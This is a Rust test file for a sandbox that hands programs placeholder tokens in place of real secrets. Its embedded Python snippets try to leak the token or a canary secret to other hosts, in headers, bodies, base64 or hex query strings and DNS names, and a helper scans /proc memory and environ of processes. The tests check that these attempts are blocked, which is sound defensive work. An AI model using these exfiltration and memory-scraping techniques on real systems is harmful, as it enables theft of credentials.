//! Secrets that stay outside: inside there is a token, and what becomes of it on its way out.

use std::path::PathBuf;

use belljar::{EventKind, Outcome, Severity};
use belljar_tests::{Server, TempDir, outcome, wait_for};

use crate::hall::Hall;
use crate::rig::{Web, refusal};
use crate::{assert_unseen, spellings};

pub(crate) const VALUE: &str = "sk/real+odd&value~~?-7f2a91";

/// Asks for an address with a header, and tells what came. What is refused is told by its status and words.
pub(crate) const ASK: &str = r"
import base64, os, sys, urllib.error, urllib.request
def ask(url, data=None, method=None, **headers):
    request = urllib.request.Request(url, data=data, headers=headers, method=method)
    try: return urllib.request.urlopen(request, timeout=60).read().decode().strip()
    except urllib.error.HTTPError as error: return f'{error.code} {error.read().decode().strip()}'
    except Exception as error: return f'refused {error}'
key = os.environ.get('KEY', '-')
";

/// The same, and then this.
pub(crate) fn asking(code: &str) -> String {
    format!("{ASK}{code}")
}

impl Hall {
    /// A run with a secret for `a.test`.
    pub(crate) fn run(&self, secret: &str, code: &str) -> Outcome {
        let arguments = [
            "run",
            "--json",
            "--egress",
            "@test",
            "--secret",
            secret,
            "--timeout",
            "2m",
            "-c",
            code,
        ];
        outcome(&self.ok(&arguments))
    }

    /// Nothing that is kept of it holds the value in any spelling.
    #[track_caller]
    fn assert_not_kept(&self) {
        for spelling in spellings(VALUE) {
            assert_eq!(self.host.files_with(&spelling), [] as [PathBuf; 0], "{spelling}");
        }
    }
}

/// A token, as it is printed.
#[track_caller]
pub(crate) fn assert_token(text: &str) {
    assert!(text.starts_with("bjph_") && text.len() == 45, "{text:?}");
}

#[test]
fn host_gets_the_value_and_the_program_only_a_token() {
    let hall = Hall::new();
    hall.host.set("key", VALUE);
    let code = asking(&format!(
        "print(key)\nprint(ask('{}', Authorization='Bearer ' + key))",
        hall.url("a.test", "/x")
    ));
    let told = hall.run("key@a.test", &code);
    let mut lines = told.stdout.lines();
    assert_token(lines.next().unwrap_or_default());
    let repeated = lines.next().unwrap_or_default();
    assert!(repeated.starts_with("GET /x Bearer [secret]"), "{told:?}");
    hall.assert_heard("GET /x", &format!("Bearer {VALUE}"));
    assert_unseen(VALUE, &format!("{told:?}"));
    assert!(told.events.is_empty() && told.ok(), "{told:?}");
    let [line] = &told.reached[..] else { panic!("{told:#?}") };
    assert_eq!((line.host.as_str(), line.port), ("a.test", hall.port));
    assert!(line.sent_bytes > 100 && line.received_bytes > 100, "{line:?}");
    let again = hall.run("key@a.test", "import os; print(os.environ['KEY'])");
    assert_ne!(again.stdout.trim(), told.stdout.lines().next().unwrap_or_default(), "fresh");
    assert_eq!(again.receipt.spec_digest.len(), told.receipt.spec_digest.len());
    hall.assert_not_kept();
    let shown = hall.ok(&["net", "explain", &told.execution_id]).out();
    assert!(shown.contains("key: a.test"), "{shown}");
    // The control: as an ordinary secret the program has it.
    let plain = hall.run("key", &asking("print(key[::-1])"));
    assert_eq!(plain.stdout.trim().chars().rev().collect::<String>(), VALUE);
}

#[test]
fn warm_sandbox_has_a_token_and_believes_its_authority() {
    let hall = Hall::new();
    hall.host.set("key", VALUE);
    let directory = TempDir::new();
    let state = directory.join("state").display().to_string();
    let set = hall.host.belljar().args(["secret", "set", "key", "--state", &state]);
    assert_eq!(set.stdin(VALUE).run().code, Some(0));
    let settings = hall.world.directory.join("belljar.toml").display().to_string();
    let server = Server::started(directory, &[], &[("BELLJAR_CONFIG", &settings)]);
    for (start, level) in [("warm", "standard"), ("warm", "strict"), ("cold", "standard")] {
        let path = format!("/{start}-{level}");
        let code = asking(&format!(
            "print(key)\nprint(ask('{}', Authorization=key))\nprint(os.stat('/dev/shm/belljar/ca.pem').st_mode & 0o777)",
            hall.url("a.test", &path)
        ));
        let ended = hall
            .belljar()
            .args(["run", "--json", "--egress", "@test", "--secret", "key@a.test"])
            .args([
                "--start",
                start,
                "--level",
                level,
                "--allow-missing",
                "uid_per_run",
                "--server",
            ])
            .arg(server.socket())
            .args(["--timeout", "2m", "-c", &code])
            .run();
        let told = outcome(&ended);
        let lines: Vec<&str> = told.stdout.lines().collect();
        let [token, repeated, mode] = lines[..] else { panic!("{told:#?}") };
        assert_token(token);
        assert!(repeated.starts_with(&format!("GET {path} [secret]")), "{told:#?}");
        assert_eq!(mode, "292", "0444");
        hall.assert_heard(&format!("GET {path}"), VALUE);
        assert_unseen(VALUE, &format!("{told:?}"));
    }
}

#[test]
fn token_sent_anywhere_else_is_refused_and_an_attempt() {
    let (hall, web) = (Hall::new(), Web::start());
    hall.host.set("key", VALUE);
    hall.host.set("other", "another-value-of-mine");
    hall.allow("", &[web.port]);
    let plain = format!("http://b.test:{}/plain", web.port);
    let own = format!("http://a.test:{}/open", web.port);
    let inside = hall.url("b.test", "/inside");
    for (what, act, name, quiet) in [
        ("in the open", format!("ask('{plain}', X=TOKEN)"), "b.test", "GET /plain"),
        ("in a body", format!("ask('{plain}', data=TOKEN.encode())"), "b.test", "POST /plain"),
        (
            "in base64",
            format!("ask('{plain}?k=' + base64.b64encode(TOKEN.encode()).decode())"),
            "b.test",
            "GET /plain?k=",
        ),
        ("to its own host without TLS", format!("ask('{own}', X=TOKEN)"), "a.test", "GET /open"),
        ("inside TLS of another", format!("ask('{inside}', X=TOKEN)"), "b.test", "GET /inside"),
    ] {
        let run = |token: &str| {
            let code = asking(&format!("TOKEN = {token}\nprint({act})"));
            let arguments = ["run", "--json", "--egress", "@test", "--timeout", "2m"];
            let secrets = ["--secret", "key@a.test", "--secret", "other@b.test", "-c", &code];
            outcome(&hall.ok(&[&arguments[..], &secrets].concat()))
        };
        let count = |lines: Vec<String>| lines.iter().filter(|one| one.starts_with(quiet)).count();
        let all = || count(hall.heard()) + count(web.requests());
        let control = run("'x' * 45");
        assert!(!control.stdout.starts_with("403") && all() == 1, "{what}: {control:#?}");
        let told = run("key");
        assert!(
            told.stdout.starts_with("403 belljar: the placeholder of key"),
            "{what}: {told:#?}"
        );
        let event = refusal(&told, "placeholder");
        assert_eq!((event.kind, event.severity), (EventKind::EscapeAttempt, Severity::High));
        assert!(event.detail.contains(name) && event.fix.contains("--secret key@"), "{event:?}");
        let most = if what == "in a body" { 2 } else { 1 };
        assert!(all() <= most, "{what}: {:?} {:?}", hall.heard(), web.requests());
        assert!(!format!("{:?}{:?}", hall.heard(), web.requests()).contains("bjph_"), "{what}");
    }
}

#[test]
fn query_and_body_have_it_only_where_that_was_asked() {
    let hall = Hall::new();
    hall.host.set("key", VALUE);
    let url = hall.url("a.test", "/p");
    let code = asking(&format!(
        "print(ask('{url}?k=' + key))\nprint(ask('{url}', data=b'k=' + key.encode()))\nprint(ask('{url}/' + key))"
    ));
    let told = hall.run("key@a.test", &code);
    let refused = "403 belljar: the placeholder of key (only in a header that authorizes, inside TLS) may not go to a.test";
    assert_eq!(told.stdout.lines().collect::<Vec<_>>(), [refused; 3], "{told:#?}");
    assert_eq!(refusal(&told, "placeholder").count, 3);
    assert!(hall.heard().iter().all(|one| !one.contains("bjph_")), "{:?}", hall.heard());
    let told = hall.run("key@a.test+query+body", &code);
    let lines: Vec<&str> = told.stdout.lines().collect();
    assert!(lines[0].starts_with("GET /p?k=[secret]"), "{told:#?}");
    assert!(lines[1].starts_with("POST /p - k=[secret]"), "{told:#?}");
    assert_eq!(lines[2], refused, "a path is no place for it: {told:#?}");
    let escaped = "sk%2Freal%2Bodd%26value~~%3F-7f2a91";
    hall.assert_heard(&format!("GET /p?k={escaped}"), "-");
    hall.assert_heard("POST /p", &format!("k={VALUE}"));
    hall.assert_not_kept();
}

#[test]
fn decoy_on_its_way_out_is_critical() {
    let (hall, web) = (Hall::new(), Web::start());
    hall.host.set("key", VALUE);
    hall.allow("", &[web.port]);
    let (plain, inside) = (format!("http://b.test:{}/", web.port), hall.url("a.test", "/"));
    for act in [
        format!("ask('{plain}', X=bait)"),
        format!("ask('{plain}?' + bait.encode().hex())"),
        format!("ask('{inside}', X=base64.b64encode(bait.encode()).decode())"),
        format!("ask('{inside}', data=bait.encode())"),
    ] {
        let code = asking(&format!("bait = os.environ['BAIT']\nprint({act})"));
        let arguments = ["run", "--json", "--egress", "@test", "--timeout", "2m"];
        let secrets = ["--secret", "key@a.test", "--secret", "bait=canary:BAIT", "-c", &code];
        let told = outcome(&hall.ok(&[&arguments[..], &secrets].concat()));
        assert!(told.stdout.starts_with("403 belljar: a decoy"), "{act}: {told:#?}");
        let event = refusal(&told, "canary");
        let weight = (event.kind, event.severity);
        assert_eq!(weight, (EventKind::SuspiciousBehavior, Severity::Critical));
    }
    let control = hall.run("key@a.test", &asking(&format!("print(ask('{plain}', X='x' * 40))")));
    assert!(control.stdout.starts_with("hello from") && control.events.is_empty(), "{control:#?}");
}

#[test]
fn hosts_that_may_not_be_reached_are_told_with_the_line_to_add() {
    let hall = Hall::new();
    hall.host.set("key", VALUE);
    for (egress, secret, host) in [
        ("b.test", "key@a.test", "a.test"),
        ("*.a.test", "key@a.test", "a.test"),
        ("a.test", "key@a.test,*.c.test", "*.c.test"),
    ] {
        let run = ["run", "--egress", egress, "--secret", secret, "-c", "1"];
        let made = ["sandbox", "create", "box", "--egress", egress, "--secret", secret];
        for arguments in [&run[..], &made[..]] {
            let ended = hall.belljar().args(arguments).run();
            assert_eq!(ended.code, Some(2), "{ended:?}");
            assert!(ended.err().contains(&format!("add --egress {host}")), "{ended:?}");
        }
    }
}

/// Processes whose pid namespace is that of the one that has this in its environment, and whether their memory,
/// arguments and environment hold a text.
fn inside_with(token: &str, text: &str) -> (usize, Vec<String>) {
    let read = |pid: u32, file: &str| std::fs::read(format!("/proc/{pid}/{file}"));
    let holds =
        |bytes: &[u8], text: &str| bytes.windows(text.len()).any(|one| one == text.as_bytes());
    let namespace = |pid: u32| std::fs::read_link(format!("/proc/{pid}/ns/pid")).ok();
    let pids: Vec<u32> = std::fs::read_dir("/proc")
        .expect("processes")
        .flatten()
        .filter_map(|entry| entry.file_name().to_str()?.parse().ok())
        .collect();
    let own = namespace(std::process::id());
    let has = |pid: &&u32| {
        namespace(**pid) != own && read(**pid, "environ").is_ok_and(|bytes| holds(&bytes, token))
    };
    let payload = *pids.iter().find(has).expect("a process that has the token");
    let wanted = namespace(payload);
    let inside: Vec<u32> = pids.into_iter().filter(|pid| namespace(*pid) == wanted).collect();
    let mut found = Vec::new();
    for pid in &inside {
        for file in ["environ", "cmdline"] {
            if read(*pid, file).is_ok_and(|bytes| holds(&bytes, text)) {
                found.push(format!("{file} of {pid}"));
            }
        }
        if memory_holds(*pid, text.as_bytes()) {
            found.push(format!("memory of {pid}, {}", belljar_tests::name_of(*pid)));
        }
    }
    (inside.len(), found)
}

/// Reads what a process may write, where it is shown to us.
fn memory_holds(pid: u32, text: &[u8]) -> bool {
    use std::os::unix::fs::FileExt;
    let maps = std::fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let Ok(memory) = std::fs::File::open(format!("/proc/{pid}/mem")) else { return false };
    let part = |line: &str| {
        let (range, rest) = line.split_once(' ')?;
        let (start, end) = range.split_once('-')?;
        let number = |text| u64::from_str_radix(text, 16).ok();
        rest.starts_with("rw").then_some((number(start)?, number(end)?))
    };
    maps.lines().filter_map(part).any(|(start, end)| {
        let mut bytes = vec![0; usize::try_from(end - start).unwrap_or(0)];
        let read = memory.read_at(&mut bytes, start).unwrap_or(0);
        bytes[..read].windows(text.len()).any(|one| one == text)
    })
}

#[test]
fn no_process_inside_ever_holds_the_value() {
    let hall = Hall::new();
    let value = format!("sk-nowhere-inside-{:x}", std::process::id());
    hall.host.set("key", &value);
    hall.host.set("seen", "the-control-has-this");
    let code = asking(&format!(
        "print(key, flush=True)\nassert ask('{}', Authorization=key).startswith('GET')\nprint('asked', flush=True)\nimport time; time.sleep(600)",
        hall.url("a.test", "/x")
    ));
    let options = ["--egress", "@test", "--secret", "key@a.test", "--secret", "seen"];
    let mut running =
        hall.belljar().args(["run", "--timeout", "10m"]).args(options).args(["-c", &code]).start();
    let token = running.read_line().trim().to_owned();
    assert_token(&token);
    assert_eq!(running.read_line(), "asked\n");
    hall.assert_heard("GET /x", &value);
    assert_all_without(&token, &value);
    drop(running);
    // The same in one that stays.
    hall.ok(&[&["sandbox", "create", "box"][..], &options].concat());
    let _stays = Stays(&hall);
    let mut running =
        hall.belljar().args(["sandbox", "exec", "box", "--", "python3", "-c", &code]).start();
    let token = running.read_line().trim().to_owned();
    assert_token(&token);
    assert_eq!(running.read_line(), "asked\n");
    assert_all_without(&token, &value);
    drop(running);
    assert_eq!(hall.host.files_with(&value), [] as [PathBuf; 0]);
    assert!(!hall.host.files_with(&token).is_empty(), "control: what is kept was read");
}

#[track_caller]
fn assert_all_without(token: &str, value: &str) {
    let (count, found) = inside_with(token, value);
    assert_eq!(found, [] as [String; 0], "of {count}");
    let (_, control) = inside_with(token, token);
    assert!(control.iter().any(|one| one.starts_with("memory")), "control: {control:?}");
    let (_, control) = inside_with(token, "the-control-has-this");
    assert!(control.iter().any(|one| one.starts_with("environ")), "control: {control:?}");
    if belljar_tests::is_root() {
        assert!(count > 1, "its init, too");
    }
}

/// A sandbox `box`, removed with the test.
pub(crate) struct Stays<'a>(pub &'a Hall);

impl Drop for Stays<'_> {
    fn drop(&mut self) {
        self.0.belljar().args(["sandbox", "rm", "--force", "box"]).run();
    }
}

#[test]
fn new_value_counts_in_a_living_sandbox_on_open_connections_too() {
    let hall = Hall::new();
    let (first, second) = ("first-value-of-the-key", "second-value-of-the-key");
    hall.host.set("key", first);
    hall.ok(&["sandbox", "create", "box", "--egress", "@test", "--secret", "key@*.test"]);
    let _stays = Stays(&hall);
    let code = format!(
        "
import http.client, os, time
line = http.client.HTTPSConnection('198.18.0.1', 3128, timeout=60)
line.set_tunnel('a.test', {})
last = None
while True:
    line.request('GET', '/x', headers={{'Authorization': os.environ['KEY']}})
    answer = line.getresponse(); answer.read()
    if answer.headers['x-digest'] != last:
        last = answer.headers['x-digest']
        print(last, flush=True)
    time.sleep(0.1)
",
        hall.port
    );
    let mut running =
        hall.belljar().args(["sandbox", "exec", "box", "--", "python3", "-c", &code]).start();
    assert_eq!(running.read_line().trim(), digest(first));
    hall.host.set("key", second);
    assert_eq!(running.read_line().trim(), digest(second));
    drop(running);
    let code = asking(&format!(
        "print(key); print(ask('{}', Authorization=key))",
        hall.url("a.test", "/y")
    ));
    let exec = || hall.ok(&["sandbox", "exec", "box", "--", "python3", "-c", &code]).out();
    let before = exec();
    hall.ok(&["sandbox", "stop", "box"]);
    hall.ok(&["sandbox", "start", "box"]);
    assert_eq!(exec(), before, "what stands in its files still stands for the secret");
    let explained = hall.ok(&["net", "explain", "box"]).out();
    assert!(explained.contains("key: *.test"), "{explained}");
    let context = |code: &str| hall.ok(&["sandbox", "code", "box", "--json", "-c", code]).out();
    assert!(context("import os; os.environ['KEY']").contains("bjph_"), "in a context, too");
}

/// A server asks for values now and then, so that a file that has changed counts without anybody saying so.
#[test]
fn value_that_changes_in_its_file_counts_under_a_server() {
    let hall = Hall::new();
    let directory = TempDir::new();
    let file = directory.join("value");
    let write = |value: &str| {
        std::fs::write(&file, value).expect("a value");
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o600);
        std::fs::set_permissions(&file, mode).expect("its mode");
    };
    write("first-value-in-a-file");
    let sources = hall.host.directory.join("secrets.toml");
    hall.host.sources(&format!("[key]\nfile = {file:?}\n"));
    let settings = hall.world.directory.join("belljar.toml");
    let variables = [("BELLJAR_CONFIG", &settings), ("BELLJAR_SECRETS", &sources)]
        .map(|(name, path)| (name, path.display().to_string()));
    let variables = [(variables[0].0, &*variables[0].1), (variables[1].0, &*variables[1].1)];
    let server = Server::started(directory, &[], &variables);
    let socket = server.socket().display().to_string();
    let made = ["sandbox", "create", "box", "--egress", "@test", "--secret", "key@a.test"];
    hall.ok(&[&made[..], &["--server", &socket]].concat());
    let code = format!(
        "{ASK}\nimport time\nwhile True:\n    ask('{}', Authorization=key); time.sleep(0.2)",
        hall.url("a.test", "/x")
    );
    let exec = ["sandbox", "exec", "box", "--background", "--server", &socket];
    hall.ok(&[&exec[..], &["--", "python3", "-c", &code]].concat());
    let heard = |value: &str| hall.heard().iter().any(|one| one.contains(value)).then_some(());
    wait_for("the first value", || heard("first-value-in-a-file"));
    write("second-value-in-a-file");
    wait_for("the second value", || heard("second-value-in-a-file"));
    hall.ok(&["sandbox", "rm", "--force", "box", "--server", &socket]);
}

fn digest(text: &str) -> String {
    let code = "import hashlib, sys; print(hashlib.sha256(sys.argv[1].encode()).hexdigest()[:12])";
    let python = belljar_tests::Program::new("/usr/bin/python3");
    python.args(["-c", code, text]).run().out().trim().to_owned()
}

#[test]
fn decoy_in_a_name_that_is_asked_for_is_critical() {
    let hall = Hall::new();
    let code = "import os, socket\ntry: socket.getaddrinfo(os.environ['BAIT'] + '.b.test', 80)\n\
                except OSError: print('unknown')";
    let arguments = ["run", "--json", "--egress", "@test", "--secret", "bait=canary:BAIT"];
    let told = outcome(&hall.ok(&[&arguments[..], &["-c", code]].concat()));
    assert_eq!(told.stdout, "unknown\n", "{told:#?}");
    assert_eq!(refusal(&told, "canary").severity, Severity::Critical, "{told:#?}");
    let control = code.replace("os.environ['BAIT']", "'x' * 40");
    let told = outcome(&hall.ok(&[&arguments[..], &["-c", &control]].concat()));
    assert!(told.events.iter().all(|one| one.rule != "egress/canary"), "{told:#?}");
}
